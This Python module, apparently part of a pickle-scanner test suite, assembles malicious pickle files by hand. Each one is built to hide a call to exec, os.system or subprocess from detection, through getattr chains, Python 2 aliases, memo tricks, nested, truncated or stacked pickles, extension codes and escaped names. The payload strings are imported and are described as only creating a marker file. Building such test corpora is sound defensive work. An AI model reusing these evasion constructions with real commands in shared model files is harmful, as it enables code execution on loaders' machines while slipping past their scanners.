"""Hand-assembled malicious pickles that hide what they call: getattr chains, Python 2
aliases, dotted names, names computed from the memo, nested, broken and stacked pickles,
extension codes.

Every payload, if a loader ever ran it, only creates ``stackward-payload-marker`` in the
current directory (or fails harmlessly).
"""

from __future__ import annotations

import base64
import marshal
import struct
from functools import partial

from tests.artifacts.corpus.assemble import (
    MARKER,
    PYTHON_PAYLOAD,
    SHELL_PAYLOAD,
    Pickle,
    argv,
    call,
    os_system,
)
from tests.artifacts.corpus.recipe import Recipe, bytes_writer, malicious


def _globals_chain() -> bytes:
    """``Namespace.__init__.__globals__['__builtins__']['exec'](source)``."""
    asm = Pickle(2)
    asm.global_("_operator", "getitem").global_("_operator", "getitem")
    asm.global_("builtins", "getattr")
    asm.global_("builtins", "getattr").global_("argparse", "Namespace").string("__init__")
    asm.tuple2().reduce().string("__globals__").tuple2().reduce()
    asm.string("__builtins__").tuple2().reduce().string("exec").tuple2().reduce()
    return bytes(asm.string(PYTHON_PAYLOAD).tuple1().reduce().stop())


def _torch_utils_chain() -> bytes:
    """From an allowed-looking torch global to ``sys.modules['os'].system``."""
    asm = Pickle(2).global_("builtins", "getattr")
    asm.global_("_operator", "getitem").global_("builtins", "getattr")
    asm.global_("_operator", "getitem").global_("builtins", "getattr")
    asm.global_("torch._utils", "_rebuild_tensor_v2").string("__globals__").tuple2().reduce()
    asm.string("sys").tuple2().reduce().string("modules").tuple2().reduce()
    asm.string("os").tuple2().reduce().string("system").tuple2().reduce()
    return bytes(asm.string(SHELL_PAYLOAD).tuple1().reduce().stop())


def _methodcaller_chain() -> bytes:
    """``operator.methodcaller('system', cmd)(os.path.os)``: no call names ``os.system``."""
    asm = Pickle(2).global_("operator", "methodcaller").string("system").string(SHELL_PAYLOAD)
    asm.tuple2().reduce().global_("os.path", "os").tuple1().reduce()
    return bytes(asm.stop())


def _getattr_chains() -> list[Recipe]:
    cls = "getattr-chain"
    return [
        malicious(
            "namespace_globals_exec.pkl",
            cls,
            "pickle",
            "argparse.Namespace.__init__.__globals__ -> __builtins__ -> exec",
            bytes_writer(_globals_chain),
        ),
        malicious(
            "torch_utils_globals_os.pkl",
            cls,
            "pickle",
            "torch._utils._rebuild_tensor_v2.__globals__ -> sys.modules['os'].system",
            bytes_writer(_torch_utils_chain),
        ),
        malicious(
            "methodcaller_os.pkl",
            cls,
            "pickle",
            "operator.methodcaller('system', cmd) applied to os.path.os",
            bytes_writer(_methodcaller_chain),
        ),
    ]


def _copy_reg_popen() -> bytes:
    """``copy_reg._reconstructor(Popen, Popen, argv)`` runs ``Popen.__init__(obj, argv)``."""
    asm = Pickle(2).global_("copy_reg", "_reconstructor").mark()
    asm.global_("subprocess", "Popen").global_("subprocess", "Popen")
    argv(asm).tuple_().reduce()
    return bytes(asm.stop())


def _py2_aliases() -> list[Recipe]:
    cls = "py2-alias"
    return [
        malicious(
            "builtin_eval.pkl",
            cls,
            "pickle",
            "__builtin__.eval (Python 2 name)",
            bytes_writer(lambda: call("__builtin__", "eval", PYTHON_PAYLOAD)),
        ),
        malicious(
            "builtin_exec_p0.pkl",
            cls,
            "pickle",
            "__builtin__.exec in protocol 0",
            bytes_writer(lambda: call("__builtin__", "exec", PYTHON_PAYLOAD, protocol=0)),
        ),
        malicious(
            "copy_reg_reconstructor.pkl",
            cls,
            "pickle",
            "copy_reg._reconstructor(Popen, Popen, argv) runs Popen.__init__",
            bytes_writer(_copy_reg_popen),
        ),
        malicious(
            "commands_getoutput.pkl",
            cls,
            "pickle",
            "commands.getoutput, mapped to subprocess by the unpickler",
            bytes_writer(lambda: call("commands", "getoutput", SHELL_PAYLOAD)),
        ),
        malicious(
            "posix_system_p0.pkl",
            cls,
            "pickle",
            "posix.system in protocol 0",
            bytes_writer(lambda: call("posix", "system", SHELL_PAYLOAD, protocol=0)),
        ),
    ]


def _dotted(module: str, name: str, *args: str) -> bytes:
    return call(module, name, *args, protocol=4, stack_global=True)


def _dotted_globals() -> bytes:
    asm = Pickle(4).stack_global("_operator", "getitem").stack_global("_operator", "getitem")
    asm.stack_global("argparse", "Namespace.__init__.__globals__").string("__builtins__")
    asm.tuple2().reduce().string("exec").tuple2().reduce()
    return bytes(asm.string(PYTHON_PAYLOAD).tuple1().reduce().stop())


def _dotted_names() -> list[Recipe]:
    cls = "dotted-name"
    return [
        malicious(
            "torch_serialization_load.pkl",
            cls,
            "pickle",
            "('torch', 'serialization.load') resolved attribute by attribute",
            bytes_writer(lambda: _dotted("torch", "serialization.load", MARKER)),
        ),
        malicious(
            "os_path_os_system.pkl",
            cls,
            "pickle",
            "('os.path', 'os.system') is os.system",
            bytes_writer(lambda: _dotted("os.path", "os.system", SHELL_PAYLOAD)),
        ),
        malicious(
            "builtins_globals_self_exec.pkl",
            cls,
            "pickle",
            "('builtins', 'globals.__self__.exec') is exec",
            bytes_writer(lambda: _dotted("builtins", "globals.__self__.exec", PYTHON_PAYLOAD)),
        ),
        malicious(
            "namespace_init_globals.pkl",
            cls,
            "pickle",
            "('argparse', 'Namespace.__init__.__globals__') then exec from __builtins__",
            bytes_writer(_dotted_globals),
        ),
    ]


def _memo_binget(module: str, name: str, protocol: int) -> bytes:
    """Module and name strings stored as harmless dict values, fetched back from the memo."""
    asm = Pickle(protocol).empty_dict().put(0).mark()
    asm.string("framework").string(module).put(1).string("layer").string(name).put(2)
    asm.op(b"u").pop()
    asm.get(1).get(2).op(b"\x93").string(SHELL_PAYLOAD).tuple1().reduce()
    return bytes(asm.stop())


def _memo_long_binget() -> bytes:
    asm = Pickle(4).string("os").memoize().pop().string("system").memoize().pop()
    asm.op(b"j" + struct.pack("<I", 0)).op(b"j" + struct.pack("<I", 1)).op(b"\x93")
    return bytes(asm.string(SHELL_PAYLOAD).tuple1().reduce().stop())


def _memo_names() -> list[Recipe]:
    cls = "memo-computed-name"
    return [
        malicious(
            "binget_stack_global.pkl",
            cls,
            "pickle",
            "STACK_GLOBAL on BINGET of strings PUT inside a metadata dict",
            bytes_writer(lambda: _memo_binget("os", "system", 4)),
        ),
        malicious(
            "memoize_long_binget.pkl",
            cls,
            "pickle",
            "MEMOIZE'd strings popped, then LONG_BINGET into STACK_GLOBAL",
            bytes_writer(_memo_long_binget),
        ),
        malicious(
            "binget_subprocess_p5.pkl",
            cls,
            "pickle",
            "protocol 5, subprocess.getoutput named only through the memo",
            bytes_writer(lambda: _memo_binget("subprocess", "getoutput", 5)),
        ),
    ]


def _loads_of(module: str, name: str, inner: bytes, protocol: int = 3) -> bytes:
    return bytes(Pickle(protocol).global_(module, name).bytes_(inner).tuple1().reduce().stop())


def _marshal_function() -> bytes:
    code = marshal.dumps(compile(PYTHON_PAYLOAD, "<model>", "exec"))
    asm = Pickle(3).global_("types", "FunctionType").global_("marshal", "loads").bytes_(code)
    asm.tuple1().reduce().empty_dict().tuple2().reduce().empty_tuple().reduce()
    return bytes(asm.stop())


def _base64_loads() -> bytes:
    asm = Pickle(2).global_("pickle", "loads").global_("base64", "b64decode")
    asm.string(base64.b64encode(os_system()).decode()).tuple1().reduce().tuple1().reduce()
    return bytes(asm.stop())


def _nested() -> list[Recipe]:
    cls = "nested-pickle"
    return [
        malicious(
            "pickle_loads.pkl",
            cls,
            "pickle",
            "pickle.loads of a bytes literal",
            bytes_writer(lambda: _loads_of("pickle", "loads", os_system())),
        ),
        malicious(
            "c_pickle_loads.pkl",
            cls,
            "pickle",
            "_pickle.loads of a bytes literal",
            bytes_writer(lambda: _loads_of("_pickle", "loads", os_system())),
        ),
        malicious(
            "pickle_loads_p2.pkl",
            cls,
            "pickle",
            "protocol 2 pickle.loads of _codecs.encode(latin-1 str)",
            bytes_writer(lambda: _loads_of("pickle", "loads", os_system(), 2)),
        ),
        malicious(
            "torch_load_from_bytes.pkl",
            cls,
            "pickle",
            "torch.storage._load_from_bytes unpickles its argument",
            bytes_writer(lambda: _loads_of("torch.storage", "_load_from_bytes", os_system())),
        ),
        malicious(
            "marshal_function.pkl",
            cls,
            "pickle",
            "types.FunctionType(marshal.loads(code), {})()",
            bytes_writer(_marshal_function),
        ),
        malicious(
            "base64_pickle_loads.pkl",
            cls,
            "pickle",
            "pickle.loads(base64.b64decode(...)) hides the inner pickle",
            bytes_writer(_base64_loads),
        ),
    ]


def _broken() -> list[Recipe]:
    cls = "broken-pickle"
    return [
        malicious(
            "truncated_after_payload.pkl",
            cls,
            "pickle",
            "payload complete, stream cut before STOP",
            bytes_writer(lambda: os_system()[:-1] + b"}q\x00(X"),
        ),
        malicious(
            "invalid_opcode_after_payload.pkl",
            cls,
            "pickle",
            "payload, then an invalid opcode byte",
            bytes_writer(lambda: os_system()[:-1] + b"\xff\xfe garbage"),
        ),
        malicious(
            "oversized_length_after_payload.pkl",
            cls,
            "pickle",
            "payload, then a BINUNICODE whose length runs past the end",
            bytes_writer(lambda: os_system()[:-1] + b"X\xff\xff\xff\x7fabc"),
        ),
    ]


def _benign_pickle(protocol: int) -> bytes:
    asm = Pickle(protocol).empty_dict().string("weights").empty_list().mark()
    for value in (1, 2, 3):
        asm.int_(value)
    return bytes(asm.op(b"e").setitem().stop())


def _stacked() -> list[Recipe]:
    cls = "stacked-pickle"
    return [
        malicious(
            "second_of_two.pkl",
            cls,
            "pickle",
            "benign pickle, then the payload pickle",
            bytes_writer(lambda: _benign_pickle(2) + os_system()),
        ),
        malicious(
            "third_of_three.pkl",
            cls,
            "pickle",
            "payload in the third of three pickles",
            bytes_writer(lambda: _benign_pickle(4) + _benign_pickle(2) + os_system(4)),
        ),
        malicious(
            "protocol0_after_binary.pkl",
            cls,
            "pickle",
            "binary pickle followed by a protocol 0 text payload",
            bytes_writer(lambda: _benign_pickle(3) + os_system(0)),
        ),
    ]


def _extension(code: int) -> bytes:
    asm = Pickle(2).global_("copyreg", "add_extension").mark().string("os").string("system")
    asm.int_(code).tuple_().reduce().pop().ext(code).string(SHELL_PAYLOAD).tuple1().reduce()
    return bytes(asm.stop())


def _extensions() -> list[Recipe]:
    cls = "extension-code"
    return [
        malicious(
            f"ext{width}.pkl",
            cls,
            "pickle",
            f"copyreg.add_extension then EXT{width} {code:#x} resolves to os.system",
            bytes_writer(partial(_extension, code)),
        )
        for width, code in ((1, 0xF0), (2, 0x1234), (4, 0x123456))
    ]


def _escaped_stack_global() -> bytes:
    """No PROTO header, names as raw-unicode-escaped UNICODE literals, then STACK_GLOBAL:
    the bytes ``os`` and ``system`` never appear in the file."""
    module = "".join(f"\\u{ord(c):04x}" for c in "os").encode()
    name = "".join(f"\\u{ord(c):04x}" for c in "system").encode()
    command = SHELL_PAYLOAD.encode()
    return b"V" + module + b"\nV" + name + b"\n\x93V" + command + b"\n\x85R."


def _py2_string_opcodes() -> bytes:
    """Protocol 0 exactly as Python 2 wrote it: quoted STRING literals, PUT/GET memo."""
    return (
        b"c__builtin__\ngetattr\np0\n(c__builtin__\n__import__\n(S'os'\ntRp1\n"
        b"S'system'\ntRp2\n(S'" + SHELL_PAYLOAD.encode() + b"'\ntR."
    )


def _escaped_names() -> list[Recipe]:
    cls = "escaped-name"
    return [
        malicious("unicode_escaped_stack_global.pkl", cls, "pickle",
                  "module and name spelled with \\u escapes, no PROTO, STACK_GLOBAL",
                  bytes_writer(_escaped_stack_global)),
        malicious("py2_string_opcodes.pkl", cls, "pickle",
                  "Python 2 text pickle: getattr(__import__('os'), 'system') via STRING",
                  bytes_writer(_py2_string_opcodes)),
    ]  # fmt: skip


def evasion_recipes() -> list[Recipe]:
    return [
        *_getattr_chains(),
        *_py2_aliases(),
        *_dotted_names(),
        *_memo_names(),
        *_nested(),
        *_broken(),
        *_stacked(),
        *_extensions(),
        *_escaped_names(),
    ]
